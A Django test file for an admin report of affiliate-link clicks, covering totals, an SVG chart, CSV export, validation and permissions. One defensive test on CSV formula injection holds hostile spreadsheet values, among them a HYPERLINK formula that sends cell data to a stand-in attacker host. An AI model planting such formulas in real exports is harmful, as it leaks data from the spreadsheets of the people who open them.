"""The click report in admin: clicks per day, link and article over a chosen period,
drawn as an SVG chart and downloadable as CSV."""

import csv
import datetime
import io
import re
import xml.etree.ElementTree as ET

import pytest
from django.contrib.auth.models import Group, Permission
from django.http import StreamingHttpResponse
from django.urls import reverse
from django.utils import timezone

from partners.models import LinkClick
from tests.factories import AffiliatePartnerFactory, ArticleFactory, PartnerLinkFactory

pytestmark = pytest.mark.django_db

REPORT = "/admin/partners/linkclick/"
CSV = "/admin/partners/linkclick/csv/"
SVG = "{http://www.w3.org/2000/svg}"

# What any admin page may cost before its own work, the same for few rows or many: the
# two-factor check (does this staff user have an authenticator app? a passkey? one query
# each) and, once a minute, noting the session's last activity for the idle sign-out (a
# savepoint and an update).
ADMIN_SESSION_QUERIES = 5


def days_ago(n: int) -> datetime.date:
    return timezone.localdate() - datetime.timedelta(days=n)


def click(link, article, day, clicks=1):
    return LinkClick.objects.create(link=link, article=article, day=day, clicks=clicks)


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def chart(response) -> ET.Element:
    """The report's SVG, parsed as XML (so it is well-formed, too)."""
    figure = re.search(r'<figure class="click-report-chart">.*?</figure>', response.content.decode(), flags=re.S)
    svg = re.search(r"<svg\b.*</svg>", figure.group(), flags=re.S).group()
    return ET.fromstring(svg)


@pytest.fixture
def heat_pack():
    return PartnerLinkFactory(name="Reusable heat pack", slug="heat-pack",
                              partner=AffiliatePartnerFactory(name="Brightleaf"))


@pytest.fixture
def staff_without_partners(client, django_user_model):
    user = django_user_model.objects.create_user("writer", "writer@example.com", "a-long-password-1", is_staff=True)
    user.user_permissions.add(Permission.objects.get(codename="view_article"))
    client.force_login(user)
    return client


def test_the_report_shows_the_last_30_days_of_all_links_by_default(staff_client, heat_pack):
    click(heat_pack, None, days_ago(0), 2)
    click(heat_pack, None, days_ago(29), 3)
    click(heat_pack, None, days_ago(30), 100)  # the 31st day back: outside

    response = staff_client.get(REPORT)

    assert response.status_code == 200
    form = response.context["form"]
    assert (form.cleaned_data["start"], form.cleaned_data["end"]) == (days_ago(29), days_ago(0))
    assert response.context["total"] == 5
    assert len(response.context["per_day"]) == 30
    assert "<strong>5 clicks</strong>" in response.content.decode()


def test_clicks_are_totalled_per_link_per_article_and_per_day(staff_client, heat_pack):
    kit = PartnerLinkFactory(name="First-aid kit", slug="first-aid-kit", partner=AffiliatePartnerFactory(name="Medibox"))
    sciatica = ArticleFactory(title="What Is Sciatica?")
    gone = ArticleFactory(title="An article deleted since")
    gone_id = gone.pk
    click(heat_pack, sciatica, days_ago(1), 4)
    click(heat_pack, sciatica, days_ago(2), 3)
    click(kit, sciatica, days_ago(2), 1)
    click(kit, gone, days_ago(2), 5)
    click(kit, None, days_ago(3), 2)
    gone.delete()

    response = staff_client.get(REPORT)

    assert response.context["total"] == 15
    # Per link, most clicks first, with the partner and the address articles use.
    per_link = [(row["link__name"], row["link__partner__name"], row["total"]) for row in response.context["per_link"]]
    assert per_link == [("First-aid kit", "Medibox", 8), ("Reusable heat pack", "Brightleaf", 7)]
    page = response.content.decode()
    assert "/go/first-aid-kit" in page
    # Per article: linked to its admin page; a deleted one keeps its clicks under its id.
    change = reverse("admin:articles_article_change", args=[sciatica.pk])
    assert f'<a href="{change}">What Is Sciatica?</a>' in page
    assert re.search(rf"deleted article #{gone_id}</th>\s*<td>5</td>", page)
    assert re.search(r"\(no article\)</th>\s*<td>2</td>", page)
    assert "An article deleted since" not in page
    # Per day: every day of the period, none missing.
    per_day = {row["day"]: row["clicks"] for row in response.context["per_day"]}
    assert (per_day[days_ago(1)], per_day[days_ago(2)], per_day[days_ago(3)], per_day[days_ago(4)]) == (4, 9, 2, 0)


def test_the_report_can_be_limited_to_one_partner_or_one_link(staff_client, heat_pack):
    other = PartnerLinkFactory(partner=heat_pack.partner)
    elsewhere = PartnerLinkFactory()
    click(heat_pack, None, days_ago(1), 1)
    click(other, None, days_ago(1), 10)
    click(elsewhere, None, days_ago(1), 100)

    assert staff_client.get(REPORT, {"partner": heat_pack.partner.pk}).context["total"] == 11
    assert staff_client.get(REPORT, {"link": heat_pack.pk}).context["total"] == 1
    assert staff_client.get(REPORT, {"link": elsewhere.pk, "partner": heat_pack.partner.pk}).context["total"] == 0


def test_a_chosen_period_counts_only_its_days(staff_client, heat_pack):
    click(heat_pack, None, datetime.date(2026, 3, 1), 1)
    click(heat_pack, None, datetime.date(2026, 3, 2), 10)
    click(heat_pack, None, datetime.date(2026, 3, 3), 100)

    response = staff_client.get(REPORT, {"start": "2026-03-02", "end": "2026-03-03"})

    assert response.context["total"] == 110
    assert [row["day"] for row in response.context["per_day"]] == [datetime.date(2026, 3, 2), datetime.date(2026, 3, 3)]


def test_a_period_of_366_days_is_allowed(staff_client):
    response = staff_client.get(REPORT, {"start": "2024-01-01", "end": "2024-12-31"})  # a leap year
    assert response.status_code == 200
    assert len(response.context["per_day"]) == 366


@pytest.mark.parametrize("query, message", [
    ({"start": "yesterday"}, "Enter “From” as a date: YYYY-MM-DD"),
    ({"start": "2026-02-30"}, "Enter “From” as a date: YYYY-MM-DD"),
    ({"end": "2026-13-01"}, "Enter “To” as a date: YYYY-MM-DD"),
    ({"start": "9" * 500}, "Enter “From” as a date: YYYY-MM-DD"),
    ({"start": "2026-03-02", "end": "2026-03-01"}, "The period ends before it starts"),
    ({"start": "2024-01-01", "end": "2025-01-01"}, "Choose a period of at most 366 days (this one has 367)."),
    ({"start": "0001-01-01", "end": "9999-12-31"}, "Choose a period of at most 366 days"),
    ({"link": "abc"}, "That link does not exist (any more)."),
    ({"link": "99999999999999999999999"}, "That link does not exist (any more)."),
    ({"partner": "-1"}, "That partner does not exist (any more)."),
])
def test_a_bad_period_or_filter_is_explained_on_the_page(staff_client, query, message):
    response = staff_client.get(REPORT, query)

    assert response.status_code == 200
    assert message in response.content.decode()
    assert "report" not in response.context
    assert "click-report-chart" not in response.content.decode()


def test_the_chart_is_an_svg_image_with_a_title_a_label_and_axes(staff_client, heat_pack):
    click(heat_pack, None, days_ago(1), 40)
    click(heat_pack, None, days_ago(5), 7)

    response = staff_client.get(REPORT)

    svg = chart(response)
    assert svg.get("role") == "img"
    assert "47 clicks per day" in svg.get("aria-label")
    assert svg[0].tag == f"{SVG}title" and svg[0].text.startswith("Clicks per day,")
    texts = [t.text for t in svg.iter(f"{SVG}text")]
    assert "Clicks" in texts and "Day" in texts  # the axes' labels
    assert "40" in texts  # the top of the scale
    bars = svg.findall(f"{SVG}rect")
    assert len(bars) == 2  # only days with clicks get a bar
    assert [bar.find(f"{SVG}title").text.split(": ")[1] for bar in bars] == ["7 clicks", "40 clicks"]
    assert float(bars[1].get("height")) > float(bars[0].get("height")) * 5
    # Nothing a strict style or script policy would refuse.
    assert all("style" not in element.attrib and element.tag != f"{SVG}script" for element in svg.iter())


def test_the_report_costs_the_same_queries_for_few_and_many_clicks(staff_client, django_assert_max_num_queries):
    link = PartnerLinkFactory()
    click(link, ArticleFactory(), days_ago(1))
    with django_assert_max_num_queries(10 + ADMIN_SESSION_QUERIES):
        assert staff_client.get(REPORT).context["total"] == 1

    links = PartnerLinkFactory.create_batch(30)
    articles = ArticleFactory.create_batch(20)
    for day in range(30):
        for n, many_link in enumerate(links):
            click(many_link, articles[(day + n) % 20] if n % 3 else None, days_ago(day), n + 1)
    articles[0].delete()
    with django_assert_max_num_queries(10 + ADMIN_SESSION_QUERIES):
        response = staff_client.get(REPORT)
    assert response.context["total"] == 1 + 30 * sum(range(1, 31))
    assert len(response.context["per_link"]) == 31


def test_the_csv_has_one_row_per_link_article_and_day_for_the_same_period_and_filters(staff_client, heat_pack):
    sciatica = ArticleFactory(title="What Is Sciatica?")
    gone = ArticleFactory(title="Deleted since")
    click(heat_pack, sciatica, datetime.date(2026, 3, 2), 4)
    click(heat_pack, None, datetime.date(2026, 3, 2), 2)
    click(heat_pack, gone, datetime.date(2026, 3, 3), 5)
    click(heat_pack, sciatica, datetime.date(2026, 3, 4), 100)  # after the period
    click(PartnerLinkFactory(), sciatica, datetime.date(2026, 3, 2), 100)  # another partner's link
    gone_id = gone.pk
    gone.delete()

    response = staff_client.get(CSV, {"start": "2026-03-01", "end": "2026-03-03", "partner": heat_pack.partner.pk})

    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="clicks-2026-03-01-to-2026-03-03.csv"'
    assert csv_rows(response) == [
        ["day", "link slug", "link name", "partner", "article id", "article title", "clicks"],
        ["2026-03-02", "heat-pack", "Reusable heat pack", "Brightleaf", "", "", "2"],
        ["2026-03-02", "heat-pack", "Reusable heat pack", "Brightleaf", str(sciatica.pk), "What Is Sciatica?", "4"],
        ["2026-03-03", "heat-pack", "Reusable heat pack", "Brightleaf", str(gone_id), "(deleted article)", "5"],
    ]


def test_the_report_page_links_to_the_csv_of_what_it_shows(staff_client, heat_pack):
    response = staff_client.get(REPORT, {"start": "2026-03-01", "end": "2026-03-03", "link": heat_pack.pk})
    assert f'href="{CSV}?start=2026-03-01&amp;end=2026-03-03&amp;link={heat_pack.pk}">Download CSV</a>' in (
        response.content.decode())


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_made_text(staff_client):
    link = PartnerLinkFactory(name='=HYPERLINK("https://evil.example/?"&A1,"Click")', slug="-offer",
                              partner=AffiliatePartnerFactory(name="+Brightleaf"))
    click(link, ArticleFactory(title="@SUM(1+1)"), days_ago(1))
    click(link, ArticleFactory(title="-2+3"), days_ago(1))

    (_, *rows) = csv_rows(staff_client.get(CSV))

    assert [row[1:4] for row in rows] == [["'-offer", '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
                                           "'+Brightleaf"]] * 2
    assert sorted(row[5] for row in rows) == ["'-2+3", "'@SUM(1+1)"]


def test_the_csv_costs_the_same_queries_for_few_and_many_rows(staff_client, django_assert_max_num_queries):
    click(PartnerLinkFactory(), ArticleFactory(), days_ago(1))
    with django_assert_max_num_queries(3 + ADMIN_SESSION_QUERIES):
        assert len(csv_rows(staff_client.get(CSV))) == 2
    links, articles = PartnerLinkFactory.create_batch(10), ArticleFactory.create_batch(10)
    for day in range(20):
        for link, article in zip(links, articles):
            click(link, article, days_ago(day))
    with django_assert_max_num_queries(3 + ADMIN_SESSION_QUERIES):
        assert len(csv_rows(staff_client.get(CSV))) == 2 + 200


def test_the_csv_of_a_bad_period_sends_the_editor_back_to_the_report_with_the_reason(staff_client):
    response = staff_client.get(CSV, {"start": "2026-03-02", "end": "2026-03-01"}, follow=True)

    assert response.redirect_chain == [(f"{REPORT}?start=2026-03-02&end=2026-03-01", 302)]
    assert "The period ends before it starts" in response.content.decode()


@pytest.mark.parametrize("path", [REPORT, CSV])
def test_staff_without_partners_permissions_may_not_see_the_report_or_its_csv(staff_without_partners, path):
    assert staff_without_partners.get(path).status_code == 403


@pytest.mark.parametrize("path", [REPORT, CSV])
def test_visitors_who_are_not_signed_in_are_sent_to_sign_in(client, path):
    response = client.get(path)
    assert response.status_code == 302 and response["Location"].startswith("/admin/login/")


def test_editors_may_read_the_report_and_download_the_csv(client, django_user_model, heat_pack):
    editor = django_user_model.objects.create_user("editor", "e@example.com", "a-long-password-1", is_staff=True)
    editor.groups.add(Group.objects.get(name="Editors"))
    client.force_login(editor)
    click(heat_pack, None, days_ago(1), 3)

    assert client.get(REPORT).context["total"] == 3
    assert len(csv_rows(client.get(CSV))) == 2


def test_clicks_are_counted_by_readers_never_added_changed_or_deleted_in_admin(staff_client, heat_pack):
    counted = click(heat_pack, None, days_ago(1), 3)

    assert staff_client.get("/admin/partners/linkclick/add/").status_code == 403
    assert staff_client.post(f"/admin/partners/linkclick/{counted.pk}/change/", {"clicks": 999}).status_code == 403
    assert staff_client.post(f"/admin/partners/linkclick/{counted.pk}/delete/", {"post": "yes"}).status_code == 403
    counted.refresh_from_db()
    assert counted.clicks == 3
